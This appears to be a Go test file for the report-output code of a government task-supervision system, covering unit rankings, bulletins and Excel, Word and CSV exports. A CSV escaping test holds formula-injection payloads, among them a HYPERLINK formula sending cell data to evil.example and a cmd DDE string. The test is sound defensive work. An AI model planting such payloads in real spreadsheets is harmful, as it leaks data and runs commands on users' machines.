package outputs

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"duban/internal/deadline"
	"duban/internal/status"
	"duban/internal/workplan"
	"duban/web"
)

var sh = deadline.Shanghai

func at(m time.Month, d, h int) time.Time { return time.Date(2024, m, d, h, 0, 0, 0, sh) }

// asg is a scored assignment due on March due (0: ongoing), from Feb 1.
func asg(id int64, unit string, kind workplan.UnitKind, due int) workplan.AssignmentFacts {
	dl := deadline.Deadline{Kind: deadline.KindOngoing}
	if due > 0 {
		dl = deadline.Deadline{Kind: deadline.KindDue, Due: deadline.NewDate(2024, 3, due)}
	}
	return workplan.AssignmentFacts{Assignment: workplan.Assignment{ID: id, TaskID: id, UnitID: id, UnitName: unit, Role: workplan.RoleResponsible},
		UnitKind: kind, TaskNumber: int(id), Facts: deadline.Facts{Deadline: dl, Start: deadline.NewDate(2024, 2, 1)}}
}

func report(day, percent int, claims bool) deadline.Event {
	return deadline.Event{Kind: deadline.EventReport, At: at(3, day, 9), Percent: percent, Claims: claims}
}

func accept(reportDay, day int) deadline.Event {
	return deadline.Event{Kind: deadline.EventAccept, At: at(3, day, 10), ReportAt: at(3, reportDay, 9)}
}

// history makes the plan history of a period from facts in force throughout
// and their events.
func history(base []workplan.AssignmentFacts, events map[int64][]deadline.Event) workplan.PlanHistory {
	var h workplan.PlanHistory
	for _, a := range base {
		h.Assignments = append(h.Assignments, workplan.AssignmentHistory{AssignmentFacts: a, Events: events[a.ID],
			Spans: []workplan.Span{{Role: a.Role, Deadline: a.Facts.Deadline, Start: a.Facts.Start}}})
	}
	return h
}

// TestRankOutcomesAndTies: scores come from outcomes only; equal scores
// share a rank (1, 1, 3, 4) and are listed by name; activity (the number of
// reports beyond one a cadence) changes nothing; a unit that filed nothing
// ranks last; other kinds of unit are listed apart.
func TestRankOutcomesAndTies(t *testing.T) {
	t.Parallel()
	h := history([]workplan.AssignmentFacts{
		asg(1, "乙县", workplan.UnitCountyGovernment, 10),
		asg(2, "甲县", workplan.UnitCountyGovernment, 10),
		asg(3, "丙县", workplan.UnitCountyGovernment, 10),
		asg(4, "丁县", workplan.UnitCountyGovernment, 10),
		asg(5, "某公司", workplan.UnitEnterprise, 10),
	}, map[int64][]deadline.Event{
		// 乙县 reports four times, 甲县 twice, both within the cadence: both
		// complete on time.
		1: {report(1, 10, false), report(2, 20, false), report(3, 50, false), report(5, 100, true), accept(5, 6)},
		2: {report(1, 10, false), report(5, 100, true), accept(5, 6)},
		// 丙县 completes 5 days late: overdue at the end of the 11th–15th; it
		// first reports on the 8th (its last report before the month was the
		// start, February 1: reports late on the 1st–7th).
		3: {report(8, 50, false), report(15, 100, true), accept(15, 16)},
		// 丁县 never reports: overdue from the 11th to the 31st.
	})
	p, err := Month("2024-03")
	require.NoError(t, err)
	r := Rank(h, p, EndOfDay(p.End), deadline.DefaultPolicy(), DefaultWeights())
	assert.Equal(t, 31, r.Days)
	require.Len(t, r.County, 4)
	var names []string
	var ranks []int
	for _, u := range r.County {
		names = append(names, u.UnitName)
		ranks = append(ranks, u.Rank)
	}
	assert.Equal(t, []string{"乙县", "甲县", "丙县", "丁县"}, names, "tied units are listed by name (Unicode order)")
	assert.Equal(t, []int{1, 1, 3, 4}, ranks)
	assert.True(t, r.County[0].Tied && r.County[1].Tied)
	assert.Equal(t, 4, r.County[0].Reports)
	assert.Equal(t, 2, r.County[1].Reports, "fewer reports, the same score")
	assert.False(t, r.County[2].Tied)
	assert.Equal(t, 100.0, r.County[0].Score)
	c := r.County[2]
	assert.Equal(t, 5, c.OverdueDays)
	assert.Equal(t, 31, c.Days)
	assert.Equal(t, 0, c.OnTime)
	assert.Equal(t, 1, c.DueByEnd)
	assert.Equal(t, 15, c.OpenDays, "open until the completion was accepted on the 16th")
	assert.Equal(t, 7, c.LateReportDays)
	assert.Equal(t, 53.3, c.PointsReport)
	assert.InDelta(t, (40*0+30*83.9+15*100+15*53.3)/100.0, c.Score, 0.051)
	d := r.County[3]
	assert.True(t, d.Silent)
	assert.Equal(t, 21, d.OverdueDays)
	assert.Equal(t, 100.0, d.AvgPaceLag)
	assert.Equal(t, 0.0, d.PointsReport, "a silent unit earns no reporting credit")
	require.Len(t, r.Other, 1)
	assert.Equal(t, 0, r.Other[0].Rank, "enterprises are not ranked")

	// Weights move the scores, never the measures.
	r2 := Rank(h, p, EndOfDay(p.End), deadline.DefaultPolicy(), Weights{Overdue: 1})
	assert.InDelta(t, 83.9, r2.County[2].Score, 0.001)
	assert.Equal(t, 5, r2.County[2].OverdueDays)
}

// TestRankSilenceEarnsNothing: a unit that never reports on its ongoing
// task is not overdue and has no pace to keep, yet it ranks below every
// unit that reported on time (it used to rank first with 100.0).
func TestRankSilenceEarnsNothing(t *testing.T) {
	t.Parallel()
	var weekly []deadline.Event
	for d := 1; d <= 29; d += 7 {
		weekly = append(weekly, report(d, 0, false))
	}
	h := history([]workplan.AssignmentFacts{
		asg(1, "市甲局", workplan.UnitCityDepartment, 0),
		asg(2, "市乙局", workplan.UnitCityDepartment, 0),
		asg(3, "市丙局", workplan.UnitCityDepartment, 10),
	}, map[int64][]deadline.Event{
		2: weekly,
		// 市丙局 is overdue for most of the month, but it reports.
		3: {report(2, 30, false), report(9, 40, false), report(16, 50, false), report(23, 60, false), report(30, 70, false)},
	})
	p, _ := Month("2024-03")
	r := Rank(h, p, EndOfDay(p.End), deadline.DefaultPolicy(), DefaultWeights())
	require.Len(t, r.City, 3)
	assert.Equal(t, "市乙局", r.City[0].UnitName)
	assert.Equal(t, 100.0, r.City[0].Score)
	assert.Equal(t, "市丙局", r.City[1].UnitName, "a unit that reported ranks above a silent one whatever the scores")
	last := r.City[2]
	assert.Equal(t, "市甲局", last.UnitName)
	assert.True(t, last.Silent)
	assert.Equal(t, 3, last.Rank)
	assert.Zero(t, last.Reports)
}

// TestRankJudgesEachDayByThePlanOfThatDay: an assignment counts only on the
// days it was in force, with the deadline of that day.
func TestRankJudgesEachDayByThePlanOfThatDay(t *testing.T) {
	t.Parallel()
	joined := at(3, 20, 12)
	a := asg(1, "甲县", workplan.UnitCountyGovernment, 10)
	a.Facts.Start = deadline.NewDate(2024, 3, 20)
	moved := asg(2, "乙县", workplan.UnitCountyGovernment, 10)
	h := workplan.PlanHistory{Assignments: []workplan.AssignmentHistory{
		// 甲县 joins a task due March 10 on the 20th: late from then only.
		{AssignmentFacts: a, Spans: []workplan.Span{{From: joined, Role: workplan.RoleResponsible, Deadline: a.Facts.Deadline, Start: a.Facts.Start}},
			Events: []deadline.Event{report(21, 10, false)}},
		// 乙县's deadline moves from March 10 to April 30 on the 15th.
		{AssignmentFacts: moved, Spans: []workplan.Span{
			{To: at(3, 15, 12), Role: workplan.RoleResponsible, Deadline: moved.Facts.Deadline, Start: moved.Facts.Start},
			{From: at(3, 15, 12), Role: workplan.RoleResponsible, Deadline: deadline.Deadline{Kind: deadline.KindDue, Due: deadline.NewDate(2024, 4, 30)}, Start: moved.Facts.Start},
		}, Events: []deadline.Event{report(1, 60, false), report(8, 60, false), report(15, 70, false), report(22, 80, false), report(29, 90, false)}},
	}}
	p, _ := Month("2024-03")
	r := Rank(h, p, EndOfDay(p.End), deadline.DefaultPolicy(), DefaultWeights())
	require.Len(t, r.County, 2)
	byName := map[string]UnitScore{}
	for _, u := range r.County {
		byName[u.UnitName] = u
	}
	assert.Equal(t, 12, byName["甲县"].Days, "in force from the 20th to the 31st")
	assert.Equal(t, 12, byName["甲县"].OverdueDays)
	assert.Equal(t, 31, byName["乙县"].Days)
	assert.Equal(t, 4, byName["乙县"].OverdueDays, "overdue at the end of the 11th–14th, not after the deadline moved")
	assert.Zero(t, byName["乙县"].DueByEnd, "due April 30 at the end of March")
}

// TestRankPartialMonth: a month still running is scored up to the instant given.
func TestRankPartialMonth(t *testing.T) {
	t.Parallel()
	h := history([]workplan.AssignmentFacts{asg(1, "甲县", workplan.UnitCountyGovernment, 10)}, nil)
	p, _ := Month("2024-03")
	r := Rank(h, p, at(3, 13, 12), deadline.DefaultPolicy(), DefaultWeights())
	assert.Equal(t, 13, r.Days)
	assert.Equal(t, 3, r.County[0].OverdueDays, "the 11th and 12th ended overdue, and the 13th is overdue now")
}

func TestCompare(t *testing.T) {
	t.Parallel()
	pol := deadline.DefaultPolicy()
	base := []workplan.AssignmentFacts{asg(1, "甲县", workplan.UnitCountyGovernment, 10), asg(2, "乙县", workplan.UnitCountyGovernment, 10),
		asg(3, "丙县", workplan.UnitCountyGovernment, 0)}
	events := map[int64][]deadline.Event{1: {report(8, 50, false), report(12, 100, true), accept(12, 13)}, 3: {report(1, 10, false)}}
	state := func(t time.Time) []Item {
		pa := workplan.PlanAt{At: t}
		for _, a := range base {
			a.Facts = deadline.FoldUntil(a.Facts, events[a.ID], t)
			pa.Assignments = append(pa.Assignments, a)
			pa.Tasks = append(pa.Tasks, workplan.Task{ID: a.TaskID, Number: a.TaskNumber})
		}
		return Items(status.Evaluate(pa, pol))
	}
	w := Compare(deadline.NewDate(2024, 3, 9), deadline.NewDate(2024, 3, 16), state(EndOfDay(deadline.NewDate(2024, 3, 9))), state(EndOfDay(deadline.NewDate(2024, 3, 16))), nil)
	require.Len(t, w.Completed, 1)
	assert.Equal(t, "甲县", w.Completed[0].UnitName)
	require.Len(t, w.NewlyOverdue, 1)
	assert.Equal(t, "乙县", w.NewlyOverdue[0].UnitName)
	require.Len(t, w.BackOnTrack, 1)
	assert.Equal(t, "甲县", w.BackOnTrack[0].UnitName, "yellow (due soon) before, done after")
	require.Len(t, w.MissedCadence, 1)
	assert.Equal(t, "丙县", w.MissedCadence[0].UnitName)
	assert.Equal(t, 15, w.MissedCadence[0].Misses[0].DaysSinceReport)
}

func TestDOCXIsA4WithRepeatingHeaders(t *testing.T) {
	t.Parallel()
	b := Bulletin{Title: "测试专报", Number: 3, Publisher: "督查室", PublishedAt: at(4, 1, 9), Period: Period{deadline.NewDate(2024, 3, 1), deadline.NewDate(2024, 3, 31)},
		Ranking: Ranking{County: []UnitScore{{UnitName: "甲县<&>", Rank: 1, Score: 99.5}}, Weights: DefaultWeights()}}
	doc, err := DOCX(b)
	require.NoError(t, err)
	again, err := DOCX(b)
	require.NoError(t, err)
	assert.Equal(t, doc, again, "the same bulletin gives the same bytes")
	zr, err := zip.NewReader(bytes.NewReader(doc), int64(len(doc)))
	require.NoError(t, err)
	parts := map[string]string{}
	for _, f := range zr.File {
		rc, err := f.Open()
		require.NoError(t, err)
		b, err := io.ReadAll(rc)
		require.NoError(t, err)
		parts[f.Name] = string(b)
	}
	for _, name := range []string{"[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/styles.xml"} {
		assert.Contains(t, parts, name)
	}
	d := parts["word/document.xml"]
	assert.Contains(t, d, `<w:pgSz w:w="11906" w:h="16838"/>`, "A4")
	assert.Contains(t, d, `<w:tblHeader/>`, "header rows repeat")
	assert.Contains(t, d, `<w:cantSplit/>`, "rows do not split")
	assert.Contains(t, d, "第3期")
	assert.Contains(t, d, "甲县&lt;&amp;&gt;", "text is escaped")
}

func TestLedgerSheetRoundTrip(t *testing.T) {
	t.Parallel()
	rows := []LedgerRow{
		{AssignmentID: 7, Version: 3, TaskNumber: 1, TaskTitle: "任务一", UnitName: "甲县", Light: deadline.LightRed, LightText: "红",
			Fill: Fill{Percent: "40", Progress: "进行中", Claims: "否"}},
		{AssignmentID: 8, Version: 1, TaskNumber: 1, TaskTitle: "任务一", UnitName: "乙县", Light: deadline.LightGreen, LightText: "绿"},
		{AssignmentID: 9, Version: 2, TaskNumber: 2, TaskTitle: "任务二", UnitName: "甲县", Light: deadline.LightYellow, LightText: "黄",
			Fill: Fill{Percent: "10", Progress: "起步", Claims: "否"}},
	}
	b, err := XLSX("台账", rows)
	require.NoError(t, err)
	f, err := excelize.OpenReader(bytes.NewReader(b))
	require.NoError(t, err)
	panes, err := f.GetPanes(LedgerSheet)
	require.NoError(t, err)
	assert.True(t, panes.Freeze)
	assert.Equal(t, 1, panes.YSplit, "the header row is frozen")
	st, err := f.GetCellStyle(LedgerSheet, "G2")
	require.NoError(t, err)
	style, err := f.GetStyle(st)
	require.NoError(t, err)
	assert.Equal(t, []string{LightFill(deadline.LightRed)}, style.Fill.Color, "the light's colour")
	// Row 2 changes; row 4 gets an invalid percent and claim; row 3 is
	// another unit's, left alone.
	require.NoError(t, f.SetCellValue(LedgerSheet, "K2", 60))
	require.NoError(t, f.SetCellValue(LedgerSheet, "L2", "过半"))
	require.NoError(t, f.SetCellValue(LedgerSheet, "K4", "abc"))
	require.NoError(t, f.SetCellValue(LedgerSheet, "O4", "也许"))
	buf, err := f.WriteToBuffer()
	require.NoError(t, err)
	up, err := ReadXLSX(buf)
	require.NoError(t, err)
	require.Len(t, up, 3)
	current := map[int64]Current{
		7: {AssignmentID: 7, Version: 3, Editable: true, UnitName: "甲县", Fill: rows[0].Fill},
		8: {AssignmentID: 8, Version: 1, Editable: false, UnitName: "乙县"},
		9: {AssignmentID: 9, Version: 2, Editable: true, UnitName: "甲县", Fill: rows[2].Fill},
	}
	// The errors are messages rendered by the interface (in Chinese here),
	// read back from the JSON the preview is stored as.
	zh := func(p ImportPreview, row int) []string {
		b, err := json.Marshal(p)
		require.NoError(t, err)
		var back ImportPreview
		require.NoError(t, json.Unmarshal(b, &back))
		var out []string
		for _, m := range back.Rows[row].Errors {
			out = append(out, web.Message(web.LangZH, m.Key, m.Args...))
		}
		return out
	}
	p := CheckImport(up, current)
	assert.Equal(t, 1, p.Changes)
	assert.Equal(t, 1, p.Ignored)
	assert.Equal(t, 1, p.Errors)
	assert.False(t, p.Applicable())
	assert.Equal(t, RowChange, p.Rows[0].Status)
	assert.Equal(t, 60, p.Rows[0].Percent)
	assert.Equal(t, "过半", p.Rows[0].Input().Progress)
	assert.Equal(t, RowIgnored, p.Rows[1].Status)
	require.Equal(t, RowError, p.Rows[2].Status)
	assert.Contains(t, strings.Join(zh(p, 2), "\n"), "第4行 K列(完成百分比):应为 0–100 的整数")
	assert.Contains(t, strings.Join(zh(p, 2), "\n"), "第4行 O列(申报完成):应填“是”或“否”")
	// A completion claim needs 100%.
	up[2].Fill = Fill{Percent: "50", Progress: "x", Claims: "是"}
	p = CheckImport(up, current)
	assert.Equal(t, []string{"第4行 K列(完成百分比):申报完成时应为 100"}, zh(p, 2))

	// Another unit's row that was changed, and a stale version, are errors.
	up[1].Fill.Progress = "冒名"
	up[0].Version = 2
	p = CheckImport(up[:2], current)
	assert.Contains(t, zh(p, 0)[0], "第2行 P列(系统键):导出后该任务已有新的报送或审核")
	assert.Contains(t, zh(p, 1)[0], "第3行 不是本单位承担的任务")

	_, err = ReadXLSX(strings.NewReader("not a sheet"))
	assert.Equal(t, workplan.EInvalid, workplan.ErrorCode(err))
}

// TestCSVEscapesFormulas checks that no cell of the CSV export can be read
// as a formula by a spreadsheet, whatever a report says.
func TestCSVEscapesFormulas(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"完成 80%,=不是公式", "完成 80%,=不是公式"},
		{"", ""},
		{"'already", "'already"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			assert.Equal(t, tt.want, CSVCell(tt.in))
		})
	}
	rows := []LedgerRow{{TaskNumber: 1, TaskTitle: "=1+1", UnitName: "@unit", Percent: 50, LastProgress: "+cmd|' /C calc'!A0",
		Fill: Fill{Percent: "50", Progress: "-1", Problems: "\tx", NextSteps: "=A1", Claims: "否"}}}
	var buf bytes.Buffer
	require.NoError(t, CSV(&buf, rows))
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
	require.NoError(t, err)
	require.Len(t, recs, 2)
	for i, cell := range recs[1] {
		if cell != "" {
			assert.NotContains(t, "=+-@\t\r", cell[:1], "column %d (%s) begins with a formula character: %q", i, recs[0][i], cell)
		}
	}
	assert.Equal(t, "50", recs[1][7], "numbers stay numbers")
}

// TestLaggardsByPrintedRule: the bulletin names units by its printed rule:
// the silent, the bottom 20% and every unit tied with them, never some of a
// tie by name order, and nobody when a group is level.
func TestLaggardsByPrintedRule(t *testing.T) {
	t.Parallel()
	p, _ := Month("2024-03")
	empty := &status.Picture{TaskCounts: status.Counts{}, AssignmentCounts: status.Counts{}}
	named := func(county []UnitScore) []string {
		rankGroup(county)
		b := NewBulletin(BulletinInput{Period: p, End: empty, Ranking: Ranking{County: county}})
		assert.Contains(t, b.LaggardRule, "后 20%")
		var out []string
		for _, l := range b.Laggards {
			out = append(out, l.UnitName)
		}
		return out
	}
	unitsScored := func(scores ...float64) []UnitScore {
		var us []UnitScore
		for i, s := range scores {
			us = append(us, UnitScore{UnitID: int64(i + 1), UnitName: string(rune('甲' + i)), Group: GroupCounty, Score: s})
		}
		return us
	}
	// Seven counties level at the top: nobody is named.
	assert.Empty(t, named(unitsScored(80, 80, 80, 80, 80, 80, 80)))
	// Seven counties, two of them tied at the bottom with a third: the bottom
	// 20% (two units) and every unit tied with them.
	got := named(unitsScored(90, 88, 85, 80, 70, 70, 70))
	assert.ElementsMatch(t, []string{string(rune('甲' + 4)), string(rune('甲' + 5)), string(rune('甲' + 6))}, got)
	// A silent unit is named whatever its score.
	us := unitsScored(90, 88, 85, 80)
	us[0].Silent = true
	got = named(us)
	assert.Contains(t, got, "甲")
}
